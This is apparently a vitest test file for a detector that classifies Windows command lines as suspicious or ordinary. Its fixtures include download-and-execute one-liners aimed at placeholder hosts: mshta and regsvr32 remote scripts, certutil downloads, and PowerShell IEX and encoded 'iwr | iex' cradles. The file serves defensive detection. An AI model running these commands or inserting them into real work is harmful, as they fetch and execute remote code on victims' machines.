import { expect, test } from "vitest";
import { suspiciousWindowsCommand } from "../../../../../src/tables/parsers/windows/suspicious-command.ts";

const encode = (script: string) => Buffer.from(script, "utf16le").toString("base64");

test.each([
  ["C:\\Users\\Public\\svc.exe", "C:\\Users\\Public\\svc.exe"],
  ['"C:\\Windows\\Temp\\a b.exe" /q', "C:\\Windows\\Temp\\a b.exe"],
  ["%TEMP%\\run.vbs", "%TEMP%\\run.vbs"],
  [
    "wscript.exe C:\\Users\\ivan\\AppData\\Local\\Temp\\x.js",
    "C:\\Users\\ivan\\AppData\\Local\\Temp\\x.js",
  ],
  ["rundll32.exe C:\\PerfLogs\\a.dll,Start", "C:\\PerfLogs\\a.dll"],
])("%s runs a file of an open folder", (command, target) => {
  expect(suspiciousWindowsCommand(command)).toEqual({
    action: "runs a file of a temporary or public folder",
    target,
  });
});

test.each([
  ["mshta.exe https://203.0.113.9/a.hta", "runs a script from the network", "203.0.113.9"],
  [
    "regsvr32 /s /n /u /i:http://x.test/a.sct scrobj.dll",
    "runs a script from the network",
    "x.test",
  ],
  ['mshta vbscript:Execute("x")', "runs a script of its arguments", null],
  [
    "cmd /c certutil -urlcache -f http://x.test/a a.exe",
    "downloads with a tool of Windows",
    "x.test",
  ],
  [
    "powershell -nop -c \"IEX (New-Object Net.WebClient).DownloadString('http://u:p@x.test/a')\"",
    "runs a download in PowerShell",
    "x.test",
  ],
  [
    `powershell.exe -w hidden -enc ${encode("iwr http://x.test/a | iex")}`,
    "runs a download in PowerShell",
    "x.test",
  ],
  [`pwsh -EncodedCommand ${encode("Get-ChildItem C:\\")}`, "runs encoded PowerShell", null],
])("%s", (command, action, target) => {
  expect(suspiciousWindowsCommand(command)).toEqual({ action, target });
});

test.each([
  "%localappdata%\\OneDrive.exe",
  '"C:\\Program Files\\VMware\\VMware Tools\\vmtoolsd.exe" -n vmusr',
  "C:\\Program Files\\Backup\\agent.exe --log C:\\Windows\\Temp\\agent.log",
  "C:\\Users\\ivan\\AppData\\Local\\Temp\\{1F}\\vc_redist.x64.exe /burn.runonce",
  "powershell.exe -NoProfile -ExecutionPolicy Bypass -File C:\\Scripts\\backup.ps1",
  "powershell.exe -Command Invoke-WebRequest https://intranet.test/health",
  "powershell.exe -ep bypass -File C:\\Scripts\\a.ps1",
  "rundll32.exe C:\\Windows\\System32\\pla.dll,PlaHost",
  "{A6BA00FE-40E8-477C-B713-C64A14F18ADB}",
  "",
])("%s is ordinary", (command) => {
  expect(suspiciousWindowsCommand(command)).toBeUndefined();
});

test("only the beginning of a very long command is examined", () => {
  expect(
    suspiciousWindowsCommand(`a.exe ${"x".repeat(1e6)} C:\\Users\\Public\\b.exe`),
  ).toBeUndefined();
});
